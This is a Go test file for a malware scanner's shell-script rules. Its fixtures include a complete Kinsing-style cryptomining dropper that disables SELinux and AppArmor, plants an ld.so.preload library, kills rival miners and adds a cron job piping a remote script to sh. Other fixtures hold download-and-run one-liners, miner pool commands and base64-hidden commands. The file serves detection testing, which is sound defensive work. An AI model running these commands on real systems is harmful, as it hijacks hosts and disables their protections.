package filescan

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// kinsingLike is a dropper written for this test with the traits public
// write-ups describe for Kinsing and similar campaigns.
var kinsingLike = `#!/bin/bash
LDR="wget -q -O -"
CC=203.0.113.35
WALLET=` + testWallet + `
ulimit -n 65535
setenforce 0 2>/dev/null
sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config
service apparmor stop
systemctl disable apparmor
ufw disable
echo 0 > /proc/sys/kernel/nmi_watchdog
chattr -i /etc/ld.so.preload
echo /usr/local/lib/libsys.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
pkill -f kdevtmpfsi
killall -9 xmrig
ps aux | grep -v grep | grep '[k]threaddi' | awk '{print $2}' | xargs -I % kill -9 %
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
crontab -l | sed '/198\.51\.100\.7/d' | crontab -
sysctl -w vm.nr_hugepages=1280
modprobe msr allow_writes=on
$LDR http://$CC/kinsing > /tmp/kinsing
chmod +x /tmp/kinsing
nohup /tmp/kinsing >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "* * * * * $LDR http://$CC/d.sh | sh > /dev/null 2>&1") | crontab -
echo aWQgPiAvZGV2L251bGwgfHwgdHJ1ZQ== | base64 -d | bash
`

func TestScriptRules(t *testing.T) {
	e := newEngine(t)
	for _, tc := range []struct {
		name, path, text string
		want             []string // exactly these IDs
	}{
		{"kinsing-like dropper", "tmp/d.sh", kinsingLike,
			[]string{"DAVY-C002", "DAVY-S001", "DAVY-S002", "DAVY-S003", "DAVY-S004", "DAVY-S005", "DAVY-S006", "DAVY-S007", "DAVY-S008", "DAVY-S009"}},
		{"raw IP download and run", "x.sh", "#!/bin/sh\ncd /tmp; wget http://192.0.2.10/x86_64 -O .x; chmod 777 .x; ./.x\n",
			[]string{"DAVY-S001"}},
		{"busybox wget without scheme, piped", "x.sh", "busybox wget -q -O- 192.0.2.10:8080/s.sh | sh\n",
			[]string{"DAVY-S001", "DAVY-S002"}},
		{"python urllib from raw IP", "x.sh", "python -c \"import urllib;urllib.urlretrieve('http://192.0.2.10/m','/tmp/m')\"\nchmod +x /tmp/m\n",
			[]string{"DAVY-S001"}},
		{"bash /dev/tcp", "x.sh", "exec 3<>/dev/tcp/192.0.2.10/80; echo -e 'GET /x HTTP/1.0\\n' >&3; cat <&3 > /tmp/x && ./x\n",
			[]string{"DAVY-S001"}},
		{"curl pipe bash", "install.sh", "curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes\n",
			[]string{"DAVY-S002"}},
		{"line continuation", "install.sh", "curl -fsSL \\\n  https://example.com/install.sh \\\n  | sh\n",
			[]string{"DAVY-S002"}},
		{"crontab file", "etc/cron.d/sync", "*/5 * * * * root curl -s http://198.51.100.3/up.sh | bash\n",
			[]string{"DAVY-S001", "DAVY-S002", "DAVY-S003"}},
		{"crontab health ping", "var/spool/cron/crontabs/root", "MAILTO=\"\"\n*/5 * * * * curl -fsS -m 10 -o /dev/null https://hc-ping.example.com/abc\n",
			nil},
		{"stratum, flags, pool, wallet", "run.sh", "#!/bin/sh\n./sys -o stratum+tcp://pool.supportxmr.com:3333 -u " + testWallet + " -p x --donate-level=1 -B\n",
			[]string{"DAVY-C001", "DAVY-C002", "DAVY-C003", "DAVY-N001"}},
		{"pool in variables", "run.sh", "#!/bin/sh\nPOOL=gulf.moneroocean.stream:10128\nexport W=abc\n/tmp/.k -o $POOL -u $W --cpu-priority 5\n",
			[]string{"DAVY-C003", "DAVY-N001"}},
		{"xmrig randomx boost", "randomx_boost.sh", "#!/bin/sh\nmodprobe msr allow_writes=on\nwrmsr -a 0xc0011020 0\n",
			[]string{"DAVY-S005"}},
		{"rival kill by pool port", "k.sh", "lsof -i :14444 | awk '{print $2}' | xargs kill -9\n",
			[]string{"DAVY-S004"}},
		{"decoded command", "b.sh", "#!/bin/sh\neval $(echo Y2QgL3RtcA== | base64 --decode)\n",
			[]string{"DAVY-S008"}},

		// Ordinary scripts.
		{"download to file", "get.sh", "#!/bin/sh\ncurl -fsSL https://get.docker.com -o get-docker.sh\nsh get-docker.sh --dry-run\n", nil},
		{"reload daemon", "reload.sh", "#!/bin/sh\nkill -HUP $(cat /var/run/nginx.pid)\nkillall -USR1 rsyslogd\n", nil},
		{"dpdk huge pages", "setup.sh", "#!/bin/sh\necho 1024 > /sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages\nmodprobe vfio-pci\n", nil},
		{"own cron cleanup", "uninstall.sh", "#!/bin/sh\ncrontab -l | grep -v backup.sh | crontab -\n", nil},
		{"chmod read only", "perm.sh", "#!/bin/sh\nchmod 644 /etc/app.conf\ncurl -o /tmp/a http://192.0.2.10/a.txt\n", nil},
		{"comment with example", "doc.sh", "#!/bin/sh\n# curl http://192.0.2.1/x | sh\necho ok\n", nil},
		{"cidr is not a path", "fw.sh", "#!/bin/sh\nchmod +x ./fw\ncurl -s https://example.com/ok --noproxy 10.0.0.0/8\n", nil},
		{"local health check", "hc.sh", "#!/bin/sh\ncurl -s http://127.0.0.1:8080/x | sh\n", []string{"DAVY-S002"}},
		{"apt in Dockerfile", "Dockerfile", "FROM debian\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n", nil},
		{"git fetch", "ci.sh", "#!/bin/sh\ngit fetch http://192.0.2.5/repo.git && chmod +x ci\n", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := scanBytes(t, e, tc.path, []byte(tc.text))
			if err != nil {
				t.Fatal(err)
			}
			if got := idSet(fs); !slices.Equal(got, tc.want) {
				t.Fatalf("got %v, want %v%s", got, tc.want, dump(fs))
			}
		})
	}
}

func TestScriptFindingShape(t *testing.T) {
	e := newEngine(t)
	fs, err := scanBytes(t, e, "layer!tmp/d.sh", []byte(kinsingLike))
	if err != nil {
		t.Fatal(err)
	}
	f := findingAt(fs, "DAVY-S004", "")
	if f == nil {
		t.Fatalf("no S004%s", dump(fs))
	}
	if f.Path != "layer!tmp/d.sh" || f.Values["line"] != "15" || f.Values["matches"] == "" {
		t.Errorf("S004 = %+v", f)
	}
	if !strings.Contains(f.Message, `script "layer!tmp/d.sh" kills rival miners`) {
		t.Errorf("message %q", f.Message)
	}
	if s1 := findingAt(fs, "DAVY-S001", ""); s1 == nil || s1.Values["ip"] != "203.0.113.35" {
		t.Errorf("S001 = %+v", s1)
	}
}

// A command hidden in base64 is decoded and read as a script.
func TestBase64HiddenCommand(t *testing.T) {
	e := newEngine(t)
	cmd := "nohup ./.cache/kswapd -o pool.hashvault.pro:443 -u " + testWallet + " --donate-level=0 --tls >/dev/null 2>&1 &"
	enc := base64.StdEncoding.EncodeToString([]byte(cmd))
	text := "#!/bin/sh\necho " + enc + " | base64 -d | sh\n"
	fs, err := scanBytes(t, e, "x.sh", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	off := strings.Index(text, enc)
	inner := "x.sh!base64@" + itoa(off)
	for _, id := range []string{"DAVY-C002", "DAVY-C003", "DAVY-N001"} {
		if findingAt(fs, id, inner) == nil {
			t.Errorf("no %s at %s%s", id, inner, dump(fs))
		}
	}
	if findingAt(fs, "DAVY-S008", "x.sh") == nil {
		t.Errorf("no S008 on the script%s", dump(fs))
	}
}

func itoa(i int) string { return strings.TrimSpace(strings.Repeat(" ", 0) + fmtInt(i)) }

func fmtInt(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for i > 0 {
		b = append([]byte{byte('0' + i%10)}, b...)
		i /= 10
	}
	return string(b)
}
